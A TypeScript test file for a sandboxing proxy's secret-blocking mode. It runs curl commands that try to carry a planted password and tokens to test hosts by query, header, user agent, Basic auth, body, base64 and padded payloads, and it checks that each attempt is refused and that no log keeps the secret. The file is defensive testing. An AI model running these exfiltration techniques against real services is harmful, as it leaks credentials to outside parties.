/** A command with `--deny-secrets` sends secrets, by accident. */
import { randomBytes } from "node:crypto";
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import test from "ava";
import { createTestInternet, type TestInternet } from "../testing/test-internet.js";

// Starting many sandboxes takes long on a small machine.
test.beforeEach((t) => t.timeout(120_000));

const password = randomBytes(15).toString("hex");
const token = `npm_${randomBytes(18).toString("hex")}`;
const injected = `ghp_${randomBytes(18).toString("hex")}`;

let world: TestInternet;
test.before(async () => {
  world = await createTestInternet({
    "a.test": ["93.184.216.34"],
    "api.test": ["93.184.216.35"],
  });
  writeFileSync(join(world.scratch, "world-ca.pem"), world.authority);
});
test.after.always(() => world[Symbol.asyncDispose]());

const options = [
  ...["--log-level", "error", "--dns-servers", "8.8.8.8", "--allow-domains", "a.test,api.test"],
  ...["--deny-secrets", "--ssl-bump", "--env", `DB_PASSWORD=${password}`],
  ...["--env", `ENCODED=${Buffer.from(token).toString("base64")}`],
  ...["--inject-credential", "GITHUB_TOKEN=api.test"],
];
const curl = "curl -sk -m 20 -o /dev/null -w '%{http_code}'";
const found = "$(echo $ENCODED | base64 -d)";

const lines: ReadonlyArray<readonly [title: string, line: string, gets: string]> = [
  ["nothing secret", `${curl} -d plain https://a.test/plain`, "200"],
  ["a password in a query", `${curl} "https://a.test/?q=$DB_PASSWORD"`, "403"],
  ["a password in a path over plain http", `${curl} "http://a.test/$DB_PASSWORD"`, "403"],
  ["a password in a header", `${curl} -H "X-Note: $DB_PASSWORD" https://a.test/`, "403"],
  ["a password in the user agent", `${curl} -A "$DB_PASSWORD" http://a.test/`, "403"],
  ["a password of the scheme Basic", `${curl} -u "u:$DB_PASSWORD" https://a.test/`, "403"],
  ["a password in a body", `${curl} -d "a=b&p=$DB_PASSWORD" https://a.test/body`, "403"],
  [
    "a password at the end of a long body",
    `(head -c 300000 /dev/zero; echo $DB_PASSWORD) | ${curl} -H 'Expect:' --data-binary @- http://a.test/long`,
    "403",
  ],
  [
    "a password in base64",
    `${curl} -d "x$(printf %s "$DB_PASSWORD" | base64 -w0)" https://a.test/body`,
    "403",
  ],
  ["a token that no variable has", `${curl} -d "t=${found}" https://a.test/body`, "403"],
  ["a placeholder to another host", `${curl} -d "t=$GITHUB_TOKEN" https://a.test/body`, "200"],
  [
    "a placeholder to its host",
    `${curl} -H "Authorization: Bearer $GITHUB_TOKEN" https://api.test/`,
    "200",
  ],
];

test("requests with secrets are refused, and no log or origin has the secret", async (t) => {
  const logs = join(world.scratch, "secret-logs");
  const script = lines.map(([, line]) => `${line}; echo`).join("\n");
  const { stdout, stderr } = await world.awf([...options, "--proxy-logs-dir", logs, "--", script], {
    environment: {
      GITHUB_TOKEN: injected,
      NODE_EXTRA_CA_CERTS: join(world.scratch, "world-ca.pem"),
    },
  });
  const results = stdout.trim().split("\n");
  t.deepEqual(
    lines.map(([title], index) => `${title}: ${results[index]}`),
    lines.map(([title, , gets]) => `${title}: ${gets}`),
    stderr,
  );
  const secrets = [password, token, injected];
  const records = readdirSync(logs).map((name) => readFileSync(join(logs, name), "utf8"));
  t.is(records.join("").match(/"rule":"deny-secret"/g)?.length, 9);
  for (const secret of secrets) {
    t.false(records.join("").includes(secret));
    t.false(JSON.stringify(world.seen).includes(secret));
    t.false(stderr.includes(secret));
  }
});
